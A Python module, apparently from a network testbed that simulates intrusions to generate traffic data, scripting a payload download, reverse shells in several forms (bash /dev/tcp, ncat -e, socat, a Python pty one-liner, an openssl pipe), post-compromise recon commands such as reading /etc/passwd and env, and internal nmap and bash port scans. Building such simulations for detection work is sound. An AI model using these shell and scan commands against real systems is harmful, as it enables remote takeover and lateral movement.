"""Breaking in: somebody opens what he should not, a shell calls home, and a scan of the inside follows."""

from pathlib import Path

from training.testbed.acts import Kind, Stage

COMMANDS = (
    "id",
    "uname -a",
    "hostname",
    "cat /etc/passwd",
    "ls -la /run/testbed/home",
    "ls -laR /run/testbed/home | head -n 400",
    "ip address",
    "ip route",
    "cat /proc/net/tcp",
    "ps aux | head -n 120",
    "df",
    "env",
    "ls -la /etc | head -n 250",
    "cat /etc/resolv.conf",
    "for n in 1 2 3 4 5; do echo step $n; done",
    "find /run/testbed/home -size -900k | head -n 200",
    "no-such-command",
)
SHELLS = ("bash", "ncat", "ncat-tls", "openssl", "socat", "python")
PTY = (
    "import os,pty,socket;s=socket.create_connection(('{host}',{port}));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
)


def break_in(stage: Stage) -> None:
    """Fetch a file from the attacker, run the shell that it brings, and let the attacker look around.

    The host of the act is the victim's; the attacker's programs run on his own.
    """
    rng = stage.rng
    web, back = rng.sample(range(4_000, 9_900), 2)
    away = stage.world.host("attacker").v4 if rng.random() < 0.6 else stage.world.name("attacker")
    _lure(stage, web)
    _fetch(stage, f"http://{away}:{web}/", "update.bin")
    shell = str(stage.settings["shell"] or rng.choice(SHELLS))
    listener = stage.start(*_listener(stage, shell, back), limit_s=stage.settings["longest_s"], at="attacker")
    stage.pause(0.7)
    address = stage.world.host("attacker").v4
    stage.start(*_caller(stage, shell, address, back), limit_s=stage.settings["longest_s"])
    stage.pause(rng.uniform(0.6, 1.2))
    pace = float(stage.settings["pace_s"])
    fetched = rng.randint(0, 5)
    for place in range(max(3, int(float(stage.settings["commands"]) * rng.lognormvariate(0.0, 0.4)))):
        line = rng.choice(COMMANDS)
        if place == fetched:
            line = f"curl -s -o {stage.folder}/tool http://{address}:{web}/tool.bin"
        elif rng.random() < 0.12:
            line = f"head -c {int(30_000 * rng.lognormvariate(0.0, 1.0))} /dev/urandom | base64"
        listener.say(line + "\n")
        stage.pause(min(12.0, pace * rng.lognormvariate(0.0, 0.8)))
    listener.say("exit\n")
    stage.pause(0.4)
    listener.stop()


def _lure(stage: Stage, port: int) -> None:
    """Let the attacker serve two files, as one does with whatever is at hand."""
    folder = stage.folder / "lure"
    folder.mkdir()
    for name, median in (("update.bin", 300_000), ("tool.bin", 120_000)):
        with (folder / name).open("wb") as out:
            out.truncate(int(median * stage.rng.lognormvariate(0.0, 0.9)))
    address = stage.world.host("attacker").v4
    stage.start(
        "python3",
        "-m",
        "http.server",
        "-d",
        str(folder),
        "-b",
        address,
        str(port),
        limit_s=stage.settings["longest_s"],
        at="attacker",
    )
    stage.pause(1.0)


def _fetch(stage: Stage, base: str, name: str) -> None:
    patient = ["--retry", "5", "--retry-connrefused", "--retry-delay", "1", "--max-time", "20"]
    if stage.rng.random() < 0.5:
        stage.run("curl", "-s", *patient, "-o", "/dev/null", base)
        stage.pause(stage.rng.lognormvariate(0.3, 0.6))
    stage.run("curl", "-s", "-4", *patient, "-o", str(stage.folder / name), base + name)
    stage.pause(stage.rng.lognormvariate(0.5, 0.5))


def _listener(stage: Stage, shell: str, port: int) -> list[str]:
    """Return what waits for the shell on the attacker's host."""
    address = stage.world.host("attacker").v4
    if shell == "openssl":
        key, chain = stage.folder / "key.pem", stage.folder / "cert.pem"
        words = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "9", "-subj", "/CN=localhost"]
        stage.run(*words, "-keyout", str(key), "-out", str(chain), at="attacker")
        return ["openssl", "s_server", "-quiet", "-key", str(key), "-cert", str(chain), "-accept", f"{address}:{port}"]
    if shell == "socat":
        return ["socat", "-", f"TCP-LISTEN:{port},bind={address},reuseaddr"]
    return ["ncat", *(["--ssl"] if shell == "ncat-tls" else []), "-n", "-l", address, str(port)]


def _caller(stage: Stage, shell: str, address: str, port: int) -> list[str]:
    """Return what the victim's host runs: a shell whose input and output are the attacker's."""
    if shell == "bash":
        return ["bash", "-c", f"exec sh -i <>/dev/tcp/{address}/{port} >&0 2>&0"]
    if shell == "socat":
        return ["socat", f"TCP:{address}:{port}", "EXEC:'sh -i',pty,stderr,sane"]
    if shell == "python":
        return ["python3", "-c", PTY.format(host=address, port=port)]
    if shell == "openssl":
        return ["sh", "-c", _through_openssl(stage.folder / "pipe", f"{address}:{port}")]
    return ["ncat", *(["--ssl"] if shell == "ncat-tls" else []), "-n", "-e", "/bin/sh", address, str(port)]


def _through_openssl(pipe: Path, target: str) -> str:
    return f"mkfifo {pipe}; sh -i <{pipe} 2>&1 | openssl s_client -quiet -connect {target} >{pipe} 2>/dev/null"


def scan_inside(stage: Stage) -> None:
    """Look from the host that was broken into for others, and for what they serve."""
    rng = stage.rng
    hosts = [host for host in stage.world.hosts.values() if host.side != "outside" and host.name != stage.host.name]
    some = rng.sample(hosts, min(len(hosts), int(stage.settings["networks"])))
    if stage.settings["probe"] == "bash":
        _by_hand(stage, [host.v4 for host in some])
        return
    span = int(stage.settings["span"])
    ranges = [f"{host.v4.rpartition('.')[0]}.1-{span}" for host in some]
    words = ["nmap", "-n", f"-{stage.settings['probe']}", f"-T{stage.settings['timing']}", "--host-timeout", "40s"]
    words += ["--max-retries", "1"]
    if stage.settings["probe"] != "sn":
        words += ["--top-ports", str(stage.settings["ports"])]
    stage.run(*words, *map(str, stage.settings["options"]), *ranges, limit_s=110.0, ok=None)


def _by_hand(stage: Stage, addresses: list[str]) -> None:
    """Try ports with what every host has: a ping, and the shell's own connections."""
    rng = stage.rng
    known = (21, 22, 23, 25, 53, 80, 135, 139, 143, 389, 443, 445, 993, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
    ports = " ".join(map(str, rng.sample(known, min(len(known), int(stage.settings["ports"])))))
    one = 'timeout 0.5 bash -c "</dev/tcp/$h/$p" 2>/dev/null && echo $h $p'
    tries = f"for p in {ports}; do {one}; done"
    every = f"for h in {' '.join(addresses)}; do ping -c 1 -W 1 -q $h >/dev/null; {tries}; done"
    stage.run("bash", "-c", every, limit_s=110.0, ok=None)


NEEDS = {"curl": "curl", "python3": "python3", "ncat": "ncat", "socat": "socat", "openssl": "openssl", "bash": "bash"}
KINDS = (
    Kind(
        "break-in",
        "infiltration",
        break_in,
        NEEDS,
        ("dns",),
        40.0,
        240.0,
        {"shell": "", "pace_s": 1.5, "commands": 14, "longest_s": 230.0},
    ),
    Kind(
        "internal-scan",
        "scan",
        scan_inside,
        {"nmap": "nmap", "bash": "bash", "ping": "iputils-ping"},
        (),
        25.0,
        120.0,
        {"probe": "sT", "timing": 4, "networks": 4, "span": 20, "ports": 40, "options": []},
    ),
)
